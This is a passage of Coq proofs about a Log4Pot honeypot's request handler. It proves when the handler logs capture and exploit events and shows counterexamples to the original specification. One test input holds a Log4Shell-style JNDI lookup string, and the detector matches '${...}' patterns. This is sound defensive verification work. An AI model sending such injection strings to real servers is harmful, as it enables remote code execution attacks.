   ++ [FileWrite (log_line (log_record ty (clock w (ticks w)) kw));
       FileFlush])%list.
Proof.
  rewrite log_run. cbv zeta. now destruct (blob w).
Qed.

Lemma log_logged ty msg kw w :
  logged w (snd (log append_block ty msg kw w))
         [log_record ty (clock w (ticks w)) kw].
Proof.
  rewrite log_run. cbv zeta.
  exists [FileWrite (log_line (log_record ty (clock w (ticks w)) kw)); FileFlush].
  destruct (blob w); simpl; repeat split; auto; lia.
Qed.

Lemma find_exploit_miss self u loc content w :
  search re_exploit content = None ->
  find_exploit append_block self u loc content w = (Ok tt, w).
Proof. unfold find_exploit. now intros ->. Qed.

Lemma find_exploit_hit self u loc content i m w :
  search re_exploit content = Some (i, m) ->
  logged w (snd (find_exploit append_block self u loc content w))
         [exploit_record self u (clock w (ticks w)) (loc, m)].
Proof.
  unfold find_exploit. intros ->. apply log_logged.
Qed.

Lemma for_each_map {A C} (f : A -> C) (g : C -> M unit) (l : list A) w :
  for_each (map f l) g w = for_each l (fun x => g (f x)) w.
Proof.
  revert w. induction l as [|x l IH]; intros w; [reflexivity|].
  simpl. unfold bind. destruct (g (f x) w) as [[a|e] w']; auto.
Qed.

(** The scan of a list of surfaces. *)
Lemma scan_run self u ss : forall w,
  exists ds,
    logged w (snd (for_each ss
                     (fun lc => find_exploit append_block self u (fst lc) (snd lc)) w))
           (exploit_records self u (clock w) (ticks w) ds) /\
    (fst (for_each ss
            (fun lc => find_exploit append_block self u (fst lc) (snd lc)) w) = Ok tt ->
     scan_spec ss ds) /\
    exists ss1 ss2, ss = (ss1 ++ ss2)%list /\ scan_spec ss1 ds.
Proof.
  induction ss as [|[loc content] ss IH]; intros w.
  - exists []. split; [apply logged_refl|]. split; [constructor|].
    exists [], []. split; [reflexivity | constructor].
  - simpl. unfold bind.
    destruct (search re_exploit content) as [[i m]|] eqn:Hs.
    + pose proof (find_exploit_hit self u loc content i m w Hs) as Hl.
      pose proof (search_sound _ _ _ Hs) as [Hocc Hsig].
      assert (Hc : contains_signature content) by (exists i, m; auto).
      assert (Hsub : substring_of m content) by (exists i; auto).
      destruct (find_exploit append_block self u loc content w) as [[[]|e] w1].
      * simpl in Hl. destruct (IH w1) as (ds & Hl2 & Hok & ss1 & ss2 & -> & Hpre).
        exists ((loc, m) :: ds). simpl.
        destruct Hl as (r1 & Ht1 & Hf1 & Hw1 & Hc1 & Hk1 & Hu1 & Hd1).
        rewrite Hc1 in Hl2. simpl in Hk1.
        replace (ticks w1) with (S (ticks w)) in Hl2 by lia.
        split.
        { apply (logged_trans w w1 _ [_] _); [|exact Hl2].
          exists r1. simpl. repeat split; auto. }
        split.
        { intros Hr. apply scan_hit; auto. }
        exists ((loc, content) :: ss1), ss2. split; [reflexivity|].
        apply scan_hit; auto.
      * simpl in *. exists [(loc, m)]. simpl. split; [exact Hl|].
        split; [discriminate|].
        exists [(loc, content)], ss. split; [reflexivity|].
        apply scan_hit; auto. constructor.
    + rewrite (find_exploit_miss _ _ _ _ _ Hs).
      assert (Hc : ~ contains_signature content).
      { intros H. apply search_complete in H as (i & m & H). congruence. }
      destruct (IH w) as (ds & Hl2 & Hok & ss1 & ss2 & -> & Hpre).
      exists ds. split; [exact Hl2|]. split.
      { intros Hr. apply scan_miss; auto. }
      exists ((loc, content) :: ss1), ss2. split; [reflexivity|].
      apply scan_miss; auto.
Qed.

(** The two scanning statements of [do] are one pass over [surfaces]. *)
Lemma scan_surfaces self u w :
  bind (find_exploit append_block self u "request" (requestline self))
       (fun _ => for_each (msg_items (headers self))
          (fun hv => find_exploit append_block self u
                       ("header-" ++ fst hv) (snd hv))) w =
  for_each (surfaces self)
    (fun lc => find_exploit append_block self u (fst lc) (snd lc)) w.
Proof.
  unfold surfaces, msg_items. simpl. unfold bind.
  destruct (find_exploit _ _ _ _ _ w) as [[[]|e] w1]; [|reflexivity].
  now rewrite for_each_map.
Qed.

(** [do], step by step. *)
Lemma do_run server self w :
  do append_block server self w =
  let u := uuid_of_random (urandom w (draws w)) in
  let w0 := mkWorld (trace w ++ fixed_response server u) (blob w) (clock w)
                    (ticks w) (urandom w) (S (draws w)) in
  match read_body self with
  | Raise e => (Raise e, w0)
  | Ok body =>
      match log append_block (latin1 "request")
                (latin1 "A request was received")
                (capture_kwargs server self u body) w0 with
      | (Ok _, w1) =>
          for_each (surfaces self)
            (fun lc => find_exploit append_block self u (fst lc) (snd lc)) w1
      | (Raise e, w1) => (Raise e, w1)
      end
  end.
Proof.
  unfold do, read_body, bind, uuid4, emit, fixed_response. simpl.
  repeat rewrite <- app_assoc. simpl.
  set (w0 := mkWorld _ _ _ _ _ _).
  destruct (dict_mem String.eqb (dict_of_message (headers self)) "Content-Length").
  - unfold lift, raise.
    destruct (msg_get (headers self) "Content-Length") as [v|].
    + destruct (py_int v) as [n|e]; [|reflexivity].
      destruct (rfile_read (rfile self) n) as [bs|e]; [|reflexivity].
      destruct (utf8_decode bs) as [content|e]; [|reflexivity].
      unfold log_request_body, capture_kwargs. simpl.
      destruct (log _ _ _ _ w0) as [[[]|e] w1]; [|reflexivity].
      apply scan_surfaces.
    + reflexivity.
  - unfold log_request, capture_kwargs. simpl.
    destruct (log _ _ _ _ w0) as [[[]|e] w1]; [|reflexivity].
    apply scan_surfaces.
Qed.

(** The lines written by [do], whatever its outcome. *)
Lemma do_logged server self w :
  let u := uuid_of_random (urandom w (draws w)) in
  let r := do append_block server self w in
  exists rest,
    trace (snd r) = (trace w ++ fixed_response server u ++ rest)%list /\
    forallb is_file_effect rest = true /\
    match read_body self with
    | Raise e => fst r = Raise e /\ rest = []
    | Ok body =>
        exists ds (ss1 ss2 : list (string * string)),
          file_writes rest =
          map log_line (capture_record server self u (clock w (ticks w)) body
                        :: exploit_records self u (clock w) (S (ticks w)) ds) /\
          surfaces self = (ss1 ++ ss2)%list /\ scan_spec ss1 ds /\
          (fst r = Ok tt -> scan_spec (surfaces self) ds)
    end.
Proof.
  intros u r. subst r. rewrite do_run. cbv zeta. fold u.
  set (w0 := mkWorld _ _ _ _ _ _).
  destruct (read_body self) as [body|e].
  - pose proof (log_logged (latin1 "request") (latin1 "A request was received")
                  (capture_kwargs server self u body) w0) as Hl.
    destruct (log _ _ _ _ w0) as [[[]|e] w1]; simpl in Hl.
    + destruct (scan_run self u (surfaces self) w1)
        as (ds & Hl2 & Hok & ss1 & ss2 & Hss & Hpre).
      destruct Hl as (r1 & Ht1 & Hf1 & Hw1 & Hc1 & Hk1 & Hu1 & Hd1).
      destruct Hl2 as (r2 & Ht2 & Hf2 & Hw2 & Hc2 & Hk2 & Hu2 & Hd2).
      exists (r1 ++ r2)%list.
      rewrite Ht2, Ht1. simpl trace. rewrite <- !app_assoc.
      split; [reflexivity|]. rewrite forallb_app, Hf1, Hf2.
      split; [reflexivity|].
      exists ds, ss1, ss2. rewrite file_writes_app, Hw1, Hw2.
      simpl in Hc1, Hk1. rewrite Hc1.
      replace (ticks w1) with (S (ticks w)) by (simpl in *; lia).
      repeat split; auto.
    + destruct Hl as (r1 & Ht1 & Hf1 & Hw1 & _).
      exists r1. simpl. rewrite Ht1. simpl trace. rewrite <- !app_assoc.
      split; [reflexivity|]. split; [exact Hf1|].
      exists [], [], (surfaces self). rewrite Hw1.
      split; [reflexivity|]. split; [reflexivity|]. split; [constructor|].
      simpl. discriminate.
  - exists []. split; [reflexivity|]. split; [reflexivity|]. auto.
Qed.


Lemma scan_spec_none ss ds :
  scan_spec ss ds ->
  (forall loc content, In (loc, content) ss -> ~ contains_signature content) ->
  ds = [].
Proof.
  induction 1 as [|loc content payload ss ds Hc _ _ _ IH|loc content ss ds _ _ IH];
    intros Hno.
  - reflexivity.
  - exfalso. exact (Hno loc content (or_introl eq_refl) Hc).
  - apply IH. intros l c Hin. apply (Hno l c). now right.
Qed.

Lemma file_writes_fixed_response server u :
  file_writes (fixed_response server u) = [].
Proof. reflexivity. Qed.

(** C1, amended: when handling a request completes without an exception,
    the log file receives the capture event and then one exploit event for
    each surface (the request line tagged [request], each header value
    tagged [header-<name>]) that contains the signature, in order, and for
    no other; the payload of such an event is a part of the text of its
    surface and the tag is that of the surface; the body is no surface, so
    a request without the signature in its request line and headers gets
    no exploit event. *)
Theorem exploit_events_when_handled server self w w' :
  do append_block server self w = (Ok tt, w') ->
  let u := uuid_of_random (urandom w (draws w)) in
  exists body ds,
    read_body self = Ok body /\
    scan_spec (surfaces self) ds /\
    file_writes (trace w') =
    (file_writes (trace w)
     ++ map log_line
          (capture_record server self u (clock w (ticks w)) body
           :: exploit_records self u (clock w) (S (ticks w)) ds))%list /\
    ((forall loc content,
         In (loc, content) (surfaces self) -> ~ contains_signature content) ->
     ds = []).
Proof.
  intros Hdo u.
  destruct (do_logged server self w) as (rest & Ht & _ & Hb).
  fold u in Ht. rewrite Hdo in Ht, Hb. cbn [fst snd] in Ht, Hb.
  destruct (read_body self) as [body|e].
  - destruct Hb as (ds & ss1 & ss2 & Hw & _ & _ & Hok).
    exists body, ds. split; [reflexivity|].
    specialize (Hok eq_refl). split; [exact Hok|]. split.
    + rewrite Ht, !file_writes_app, file_writes_fixed_response, Hw.
      reflexivity.
    + now apply scan_spec_none.
  - destruct Hb as [Hb _]. discriminate.
Qed.

(** C3: every handled request, whatever its method, makes the handler
    send status 200, the header [Content-Type: text/json] and the body
    with the correlation identifier, before anything else; all that
    follows touches the log file only, whether or not a signature is found
    and whether or not a later step raises. *)
Theorem fixed_response_first server self w :
  let u := uuid_of_random (urandom w (draws w)) in
  let r := handle_one_request append_block server self w in
  r = do append_block server self w /\
  response_body u =
  "{ " ++ quoted "status" ++ ": " ++ quoted "ok" ++ ", " ++ quoted "id" ++ ": "
  ++ quoted (str_uuid u) ++ " }" /\
  exists rest,
    trace (snd r) = (trace w ++ fixed_response server u ++ rest)%list /\
    forallb is_file_effect rest = true.
Proof.
  intros u r.
  assert (Hr : r = do append_block server self w).
  { subst r. unfold handle_one_request, getattribute, startswith.
    now destruct (command self). }
  split; [exact Hr|]. split; [reflexivity|]. rewrite Hr.
  destruct (do_logged server self w) as (rest & Ht & Hf & _).
  exists rest. split; [exact Ht | exact Hf].
Qed.

Lemma has_type_capture server self u now body :
  has_type "request" (capture_record server self u now body) = true.
Proof. destruct body; reflexivity. Qed.

Lemma has_type_exploit self u now d :
  has_type "exploit" (exploit_record self u now d) = true /\
  has_type "request" (exploit_record self u now d) = false.
Proof. split; reflexivity. Qed.

Lemma id_capture server self u now body :
  field (capture_record server self u now body) "correlation_id"
  = Some (JStr (latin1 (str_uuid u))).
Proof. destruct body; reflexivity. Qed.

Lemma id_exploit self u now d :
  field (exploit_record self u now d) "correlation_id"
  = Some (JStr (latin1 (str_uuid u))).
Proof. reflexivity. Qed.

Lemma exploit_records_facts self u clk ds : forall t,
  forallb (has_type "exploit") (exploit_records self u clk t ds) = true /\
  filter (has_type "request") (exploit_records self u clk t ds) = [] /\
  Forall (fun d => field d "correlation_id" = Some (JStr (latin1 (str_uuid u))))
         (exploit_records self u clk t ds).
Proof.
  induction ds as [|d ds IH]; intros t; cbn [exploit_records forallb filter].
  - repeat split; constructor.
  - destruct (IH (S t)) as (H1 & H2 & H3).
    destruct (has_type_exploit self u (clk t) d) as [-> ->].
    split; [exact H1|]. split; [exact H2|].
    constructor; [apply id_exploit | exact H3].
Qed.

(** C4, amended: handling a request puts the correlation identifier drawn
    at its start into the response, and writes to the log either nothing
    (when reading the body raises) or exactly one capture event followed
    by exploit events only, all of them carrying that identifier. *)
Theorem one_capture_then_exploits server self w :
  let u := uuid_of_random (urandom w (draws w)) in
  let w' := snd (do append_block server self w) in
  In (WfileWrite (response_body u)) (trace w') /\
  exists ds,
    file_writes (trace w') = (file_writes (trace w) ++ map log_line ds)%list /\
    match read_body self with
    | Raise _ => ds = []
    | Ok body =>
        exists exps,
          ds = capture_record server self u (clock w (ticks w)) body :: exps /\
          List.length (filter (has_type "request") ds) = 1 /\
          forallb (has_type "exploit") exps = true /\
          Forall (fun d => field d "correlation_id"
                           = Some (JStr (latin1 (str_uuid u)))) ds
    end.
Proof.
  intros u w'. subst w'.
  destruct (do_logged server self w) as (rest & Ht & _ & Hb). fold u in Ht.
  split.
  { rewrite Ht. apply in_or_app. right. apply in_or_app. left.
    simpl. auto. }
  rewrite Ht, !file_writes_app, file_writes_fixed_response. simpl.
  destruct (read_body self) as [body|e].
  - destruct Hb as (ds & _ & _ & Hw & _).
    exists (capture_record server self u (clock w (ticks w)) body
            :: exploit_records self u (clock w) (S (ticks w)) ds).
    split; [now rewrite Hw|].
    destruct (exploit_records_facts self u (clock w) ds (S (ticks w)))
      as (H1 & H2 & H3).
    eexists. split; [reflexivity|]. cbn [filter].
    rewrite has_type_capture, H2.
    split; [reflexivity|]. split; [exact H1|].
    constructor; [apply id_capture | exact H3].
  - destruct Hb as [_ ->]. exists []. split; reflexivity.
Qed.

(** C2, amended: [log] appends its record to the local file and flushes it
    before it turns to the remote blob; a failure of the remote write is
    raised to the caller of [log] as it is (no exception event is written,
    the write is attempted once); the record itself is in the file all the
    same, and the next call of [log] appends its own record after it.  A
    caller that does not catch the exception stops there: the request
    handler, when the remote write of the capture event fails, writes none
    of the exploit events of that request. *)
Theorem log_local_write_first ty msg kw w :
  let j := log_line (log_record ty (clock w (ticks w)) kw) in
  let r := log append_block ty msg kw w in
  trace (snd r) = (trace w ++ [FileWrite j; FileFlush])%list /\
  fst r = match blob w with
          | None => Ok tt
          | Some b => fst (append_block b j)
          end /\
  blob (snd r) = match blob w with
                 | None => None
                 | Some b => Some (snd (append_block b j))
                 end /\
  (forall ty2 msg2 kw2,
     trace (snd (log append_block ty2 msg2 kw2 (snd r))) =
     (trace w ++ [FileWrite j; FileFlush;
                  FileWrite (log_line (log_record ty2 (clock w (S (ticks w))) kw2));
                  FileFlush])%list) /\
  forall server self body b e,
    let u := uuid_of_random (urandom w (draws w)) in
    let c := log_line (capture_record server self u (clock w (ticks w)) body) in
    read_body self = Ok body ->
    blob w = Some b ->
    fst (append_block b c) = Raise e ->
    fst (do append_block server self w) = Raise e /\
    file_writes (trace (snd (do append_block server self w)))
    = (file_writes (trace w) ++ [c])%list.
Proof.
  intros j r. subst r. rewrite log_run. cbv zeta. fold j.
  split; [now destruct (blob w)|]. split; [now destruct (blob w)|].
  split; [now destruct (blob w)|]. split.
  - intros ty2 msg2 kw2. rewrite log_run. cbv zeta.
    destruct (blob w) as [b|]; cbn [fst snd trace blob clock ticks];
      rewrite <- app_assoc; reflexivity.
  - intros server self body b e Hb Hw He.
    rewrite do_run. cbv zeta. rewrite Hb, log_run. cbv zeta.
    cbn [blob clock ticks trace]. rewrite Hw.
    unfold capture_record in He. rewrite He. cbn [fst snd trace].
    split; [reflexivity|].
    rewrite !file_writes_app, file_writes_fixed_response, app_nil_r.
    reflexivity.
Qed.

(** C6, amended: when the request announces a body, the length is a number
    and the bytes are read, a body that is not UTF-8 makes [do] raise the
    decoding error after the response: neither an exception event nor the
    capture event is written; a body that is UTF-8 gets its capture event,
    with the decoded text in the field [body]. *)
Theorem undecodable_body_aborts server self w v n bs :
  dict_mem String.eqb (dict_of_message (headers self)) "Content-Length" = true ->
  msg_get (headers self) "Content-Length" = Some v ->
  py_int v = Ok n ->
  rfile_read (rfile self) n = Ok bs ->
  let u := uuid_of_random (urandom w (draws w)) in
  let r := do append_block server self w in
  match utf8_decode bs with
  | Raise e =>
      fst r = Raise e /\
      trace (snd r) = (trace w ++ fixed_response server u)%list /\
      file_writes (trace (snd r)) = file_writes (trace w)
  | Ok content =>
      exists ds,
        file_writes (trace (snd r)) =
        (file_writes (trace w)
         ++ log_line (capture_record server self u (clock w (ticks w))
                        (Some content)) :: ds)%list /\
        field (capture_record server self u (clock w (ticks w)) (Some content))
              "body" = Some (JStr content)
  end.
Proof.
  intros Hm Hg Hi Hr u r. subst r.
  destruct (do_logged server self w) as (rest & Ht & _ & Hb). fold u in Ht.
  unfold read_body in Hb. rewrite Hm, Hg, Hi, Hr in Hb.
  destruct (utf8_decode bs) as [content|e].
  - destruct Hb as (ds & _ & _ & Hw & _).
    eexists. split; [|reflexivity].
    rewrite Ht, !file_writes_app, file_writes_fixed_response, Hw.
    reflexivity.
  - destruct Hb as [He ->]. split; [exact He|].
    rewrite Ht, app_nil_r. split; [reflexivity|].
    now rewrite file_writes_app, file_writes_fixed_response, app_nil_r.
Qed.

Lemma never_closed_no_match content :
  never_closed content -> search re_exploit content = None.
Proof.
  intros Hn. destruct (search re_exploit content) as [[i m]|] eqn:Hs;
    [|reflexivity].
  apply search_sound in Hs as [(pre & post & -> & _) (mid & -> & _)].
  assert (Heq : pre ++ ("${" ++ mid ++ "}") ++ post
                = pre ++ "${" ++ (mid ++ "}" ++ post)).
  { simpl. now rewrite !append_assoc. }
  exfalso. exact (Hn pre _ Heq mid post eq_refl).
Qed.

(** C10: scanning one surface writes at most one exploit event; when the
    surface contains the signature it is exactly one, for the match that
    starts first, however many occurrences there are; an opening marker
    with no closing marker after it gives no event. *)
Theorem one_event_per_surface self u loc content w :
  let w' := snd (find_exploit append_block self u loc content w) in
  exists ds,
    logged w w' (exploit_records self u (clock w) (ticks w) ds) /\
    List.length ds <= 1 /\
    (forall d, In d ds ->
       fst d = loc /\
       exists i,
         search re_exploit content = Some (i, snd d) /\
         occurs_at content i (snd d) /\ signature (snd d) /\
         forall i' m', occurs_at content i' m' -> signature m' -> i <= i') /\
    (contains_signature content -> List.length ds = 1) /\
    (never_closed content -> ds = []).
Proof.
  intros w'. subst w'.
  destruct (search re_exploit content) as [[i m]|] eqn:Hs.
  - exists [(loc, m)]. split; [exact (find_exploit_hit _ _ _ _ _ _ _ Hs)|].
    split; [simpl; lia|]. split.
    + intros d [<-|[]]. split; [reflexivity|]. exists i. simpl.
      destruct (search_sound _ _ _ Hs) as [Ho Hg].
      repeat split; auto. intros i' m' Ho' Hg'.
      exact (search_leftmost _ _ _ _ _ Hs Ho' Hg').
    + split; [reflexivity|]. intros Hn.
      apply never_closed_no_match in Hn. congruence.
  - exists []. rewrite (find_exploit_miss _ _ _ _ _ Hs). simpl.
    split; [apply logged_refl|]. split; [lia|]. split; [intros d []|].
    split; [|reflexivity].
    intros Hc. apply search_complete in Hc as (i & m & Hc). congruence.
Qed.

(** C5, amended: in a string that contains the signature (an opening
    marker and, later on the same line, a closing marker) the detector
    reports the match that starts at the first such opening marker and runs
    to the last closing marker of that line: the longest match from that
    start, not the shortest; that text is the payload of the exploit
    event. *)
Theorem longest_match_reported content :
  contains_signature content ->
  exists i m,
    search re_exploit content = Some (i, m) /\
    occurs_at content i m /\ signature m /\
    (forall i' m', occurs_at content i' m' -> signature m' -> i <= i') /\
    (forall m', occurs_at content i m' -> signature m' ->
                String.length m' <= String.length m) /\
    forall self u loc w,
      logged w (snd (find_exploit append_block self u loc content w))
             [exploit_record self u (clock w (ticks w)) (loc, m)].
Proof.
  intros Hc. destruct (search_complete _ Hc) as (i & m & Hs).
  exists i, m. destruct (search_sound _ _ _ Hs) as [Ho Hg].
  repeat split; auto.
  - intros i' m' Ho' Hg'. exact (search_leftmost _ _ _ _ _ Hs Ho' Hg').
  - intros m' Ho' Hg'. exact (search_longest _ _ _ _ Hs Ho' Hg').
  - intros self u loc w. exact (find_exploit_hit _ _ _ _ _ _ _ Hs).
Qed.

End Properties.

(** ** [dict(headers)] *)

Section MessageDict.
Variable g : string -> option string.

Lemma dict_set_entry l x :
  dict_set String.eqb (map (fun k => (k, g k)) l) x (g x) =
  map (fun k => (k, g k))
      (if existsb (fun k => String.eqb k x) l then l else l ++ [x])%list.
Proof.
  induction l as [|k l IH]; [reflexivity|].
  simpl. destruct (String.eqb_spec k x) as [->|Hne]; [reflexivity|].
  simpl. rewrite IH. now destruct (existsb _ l).
Qed.

Lemma filter_filter {A} (p q : A -> bool) (l : list A) :
  filter p (filter q l) = filter (fun y => q y && p y) l.
Proof.
  induction l as [|y l IH]; [reflexivity|].
  simpl. destruct (q y); simpl; [destruct (p y)|]; now rewrite IH.
Qed.

Lemma fold_dict_set ks : forall l,
  fold_left (fun d k => dict_set String.eqb d k (g k)) ks
            (map (fun k => (k, g k)) l) =
  map (fun k => (k, g k))
      (l ++ filter (fun x => negb (existsb (fun k => String.eqb k x) l))
                   (first_occurrences ks))%list.
Proof.
  induction ks as [|x ks IH]; intros l.
  - simpl. now rewrite app_nil_r.
  - cbn [fold_left first_occurrences filter].
    rewrite dict_set_entry.
    destruct (existsb (fun k => String.eqb k x) l) eqn:Hx; cbn [negb].
    + rewrite IH, filter_filter. do 2 f_equal.
      apply filter_ext. intros y.
      destruct (String.eqb_spec y x) as [->|]; [|reflexivity].
      now rewrite Hx.
    + rewrite IH, filter_filter, <- app_assoc. do 2 f_equal. simpl.
      f_equal. apply filter_ext. intros y.
      rewrite existsb_app. simpl. rewrite orb_false_r, negb_orb.
      rewrite (String.eqb_sym x y). apply andb_comm.
Qed.
End MessageDict.

Lemma dict_of_message_eq (m : Message) :
  dict_of_message m =
  map (fun k => (k, msg_get m k)) (first_occurrences (msg_keys m)).
Proof.
  unfold dict_of_message.
  etransitivity; [exact (fold_dict_set (msg_get m) (msg_keys m) [])|].
  simpl. f_equal. induction (first_occurrences (msg_keys m)) as [|y l IH];
    [reflexivity | simpl; now rewrite IH].
Qed.

Lemma first_occurrences_NoDup l : NoDup (first_occurrences l).
Proof.
  induction l as [|x l IH]; simpl; constructor.
  - intros H. apply filter_In in H as [_ H].
    now rewrite String.eqb_refl in H.
  - now apply NoDup_filter.
Qed.



Lemma msg_get_found (m : Message) k :
  In k (msg_keys m) ->
  exists k' v, In (k', v) m /\ lower k' = lower k /\ msg_get m k = Some v.
Proof.
  induction m as [|[k0 v0] m IH]; [intros []|].
  simpl. destruct (String.eqb_spec (lower k0) (lower k)) as [He|Hne].
  - intros _. exists k0, v0. auto.
  - intros [->|H]; [congruence|].
    destruct (IH H) as (k' & v & Hin & Hl & Hg). exists k', v. auto.
Qed.





(** ** Listeners *)

Section Listeners.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).
Context (server_bind : Z -> outcome unit)
        (traffic : Z -> list Request * option exn).

Implicit Types w : @World Blob.

Lemma ServerThread_init_run p header w :
  ServerThread_init server_bind p header w =
  match server_bind p with
  | Ok _ => (Ok {| port := p;
                   server := {| server_address := (EmptyString, p);
                                server_header := header |} |}, w)
  | Raise e => (Raise e, w)
  end.
Proof.
  unfold ServerThread_init, bind, lift, ret.
  now destruct (server_bind p).
Qed.


Lemma start_join_all ts : forall w,
  fst (for_each ts (start_join append_block traffic) w) = Ok tt.
Proof.
  induction ts as [|t ts IH]; intros w; [reflexivity|].
  simpl. unfold bind, start_join at 1. apply IH.
Qed.


End Listeners.


(** ** The amended statements at work, and the inputs on which the
    sentences of the specification fail *)

Lemma probe_line_has_signature :
  contains_signature (requestline probe_bad_length).
Proof.
  exists 5, "${jndi:ldap://x}". split.
  - exists "GET /", " HTTP/1.1". split; reflexivity.
  - exists "jndi:ldap://x". split; reflexivity.
Qed.

(** C1, as stated, fails on a request whose length header is no number:
    the signature in its request line goes undetected. *)
Lemma bad_length_hides_probe :
  ~ scans_every_surface remote_ok server0 probe_bad_length (world0 None).
Proof.
  intros (pre & t & ds & Hscan & Hw).
  assert (H0 : file_writes (trace (snd (do remote_ok server0 probe_bad_length
                                          (world0 None)))) = [])
    by (vm_compute; reflexivity).
  rewrite H0 in Hw. clear H0.
  inversion Hscan as [|loc content payload ss ds' Hc Hg Hsub Hrest|
                      loc content ss ds' Hno Hrest]; subst.
  - simpl in Hw. destruct pre; discriminate Hw.
  - apply Hno. exact probe_line_has_signature.
Qed.

(** Scenario 2: the signature in the body only; the request is captured,
    body included, and no exploit event is written. *)
Lemma probe_in_body_not_scanned :
  do remote_ok server0 probe_in_body (world0 None)
  = (Ok tt, snd (do remote_ok server0 probe_in_body (world0 None)))
  /\ exists body ds,
      read_body probe_in_body = Ok body /\
      scan_spec (surfaces probe_in_body) ds /\
      file_writes (trace (snd (do remote_ok server0 probe_in_body (world0 None)))) =
      (file_writes (trace (world0 None))
       ++ map log_line
            (capture_record server0 probe_in_body
               (uuid_of_random (urandom (world0 None) (draws (world0 None))))
               (clock (world0 None) (ticks (world0 None))) body
             :: exploit_records probe_in_body
                  (uuid_of_random (urandom (world0 None) (draws (world0 None))))
                  (clock (world0 None)) (S (ticks (world0 None))) ds))%list /\
      ((forall loc content,
           In (loc, content) (surfaces probe_in_body) ->
           ~ contains_signature content) ->
       ds = []).
Proof.
  assert (H : do remote_ok server0 probe_in_body (world0 None)
              = (Ok tt, snd (do remote_ok server0 probe_in_body (world0 None))))
    by (vm_compute; reflexivity).
  split; [exact H|].
  exact (exploit_events_when_handled remote_ok server0 probe_in_body
           (world0 None) _ H).
Defined.

(** C2, as stated, fails when the remote blob cannot be reached: [log]
    raises, and the file holds the event itself and no exception event. *)
Lemma remote_failure_raises :
  ~ log_returns remote_down (latin1 "start") (latin1 "Log4Pot started") []
      (world0 (Some []))
  /\ log remote_down (latin1 "start") (latin1 "Log4Pot started") []
       (world0 (Some []))
     = (Raise (OtherError "remote unavailable"),
        mkWorld [FileWrite (log_line (log_record (latin1 "start") noon []));
                 FileFlush]
                (Some []) (fun _ => noon) 1 (fun n => N.of_nat n) 0).
Proof.
  split; [intros H; discriminate H | reflexivity].
Qed.

(** C4, as stated, fails on the same request as C1: no capture event. *)
Lemma bad_length_not_captured :
  ~ one_capture_event remote_ok server0 probe_bad_length (world0 None).
Proof.
  intros (ds & Hw & Hlen).
  assert (H0 : file_writes (trace (snd (do remote_ok server0 probe_bad_length
                                          (world0 None)))) = [])
    by (vm_compute; reflexivity).
  rewrite H0 in Hw. destruct ds; [discriminate Hlen | discriminate Hw].
Qed.

(** C5, as stated, fails when a closing marker follows the first one. *)
Lemma greedy_match_is_not_shortest : ~ shortest_span_reported "${a}b}".
Proof.
  intros H.
  assert (Hle : String.length "${a}b}" <= String.length "${a}").
  { apply (H 0 "${a}b}" eq_refl 0 "${a}").
    - exists EmptyString, "b}". split; reflexivity.
    - exists "a". reflexivity. }
  simpl in Hle. lia.
Qed.

Lemma greedy_match_example :
  contains_signature "${a}b}"
  /\ exists i m,
      search re_exploit "${a}b}" = Some (i, m) /\
      occurs_at "${a}b}" i m /\ signature m /\
      (forall i' m', occurs_at "${a}b}" i' m' -> signature m' -> i <= i') /\
      (forall m', occurs_at "${a}b}" i m' -> signature m' ->
                  String.length m' <= String.length m) /\
      forall self u loc w,
        logged w (snd (find_exploit remote_ok self u loc "${a}b}" w))
               [exploit_record self u (clock w (ticks w)) (loc, m)].
Proof.
  assert (H : contains_signature "${a}b}").
  { exists 0, "${a}". split.
    - exists EmptyString, "b}". split; reflexivity.
    - exists "a". split; reflexivity. }
  split; [exact H|].
  exact (longest_match_reported remote_ok "${a}b}" H).
Defined.

(** C6, as stated, fails on a body that is not UTF-8: nothing is logged. *)
Lemma undecodable_body_not_logged :
  ~ decoding_error_recorded remote_ok server0 bad_utf8_body (world0 None).
Proof.
  intros (ds & Hw & Hex & _).
  assert (H0 : file_writes (trace (snd (do remote_ok server0 bad_utf8_body
                                          (world0 None)))) = [])
    by (vm_compute; reflexivity).
  rewrite H0 in Hw. destruct ds; [discriminate Hex | discriminate Hw].
Qed.

Lemma undecodable_body_example :
  exists e,
    utf8_decode [Byte.xff] = Raise e /\
    fst (do remote_ok server0 bad_utf8_body (world0 None)) = Raise e /\
    file_writes (trace (snd (do remote_ok server0 bad_utf8_body (world0 None))))
    = file_writes (trace (world0 None)).
Proof.
  pose proof (undecodable_body_aborts remote_ok server0 bad_utf8_body
                (world0 None) "1" 1%Z [Byte.xff]
                eq_refl eq_refl eq_refl eq_refl) as H.
  cbv zeta in H.
  destruct (utf8_decode [Byte.xff]) as [content|e] eqn:Hd;
    [discriminate Hd|].
  exists e. destruct H as (H1 & _ & H3). auto.
Defined.

(** ** Reading back what [json.dumps] wrote *)

Lemma N_ascii_roundtrip n : (n < 256)%N -> N_of_ascii (ascii_of_N n) = n.
Proof. apply N_ascii_embedding. Qed.

Lemma hex_val_hex_digit n : (n < 16)%N -> hex_val (hex_digit n) = Some n.
Proof.
  intros H. rewrite <- (N2Nat.id n).
  assert (Hk : N.to_nat n < 16) by lia.
  revert Hk. generalize (N.to_nat n). intros k Hk.
  do 16 (destruct k as [|k]; [reflexivity|]). lia.
Qed.

Lemma nibble_lt n k : (N.land (N.shiftr n k) 15 < 16)%N.
Proof.
  change 15%N with (N.ones 4). rewrite N.land_ones.
  apply N.mod_lt. discriminate.
Qed.

(** A hexadecimal digit of [v] is below 16, also the last one, which is
    written without a shift. *)
Ltac nibble v :=
  apply nibble_lt || (rewrite <- (N.shiftr_0_r v) at 1; apply nibble_lt).

Lemma nibbles_sum v :
  (v < 65536)%N ->
  ((((0 * 16 + N.land (N.shiftr v 12) 15) * 16 + N.land (N.shiftr v 8) 15) * 16
    + N.land (N.shiftr v 4) 15) * 16 + N.land v 15 = v)%N.
Proof.
  intros Hv.
  change 15%N with (N.ones 4). rewrite !N.land_ones, !N.shiftr_div_pow2.
  change (2 ^ 4)%N with 16%N. change (2 ^ 8)%N with (16 * 16)%N.
  change (2 ^ 12)%N with (16 * 16 * 16)%N.
  rewrite <- !N.Div0.div_div.
  pose proof (N.div_mod v 16 ltac:(discriminate)) as H0.
  pose proof (N.div_mod (v / 16) 16 ltac:(discriminate)) as H1.
  pose proof (N.div_mod (v / 16 / 16) 16 ltac:(discriminate)) as H2.
  pose proof (N.mod_lt v 16 ltac:(discriminate)) as L0.
  pose proof (N.mod_lt (v / 16) 16 ltac:(discriminate)) as L1.
  pose proof (N.mod_lt (v / 16 / 16) 16 ltac:(discriminate)) as L2.
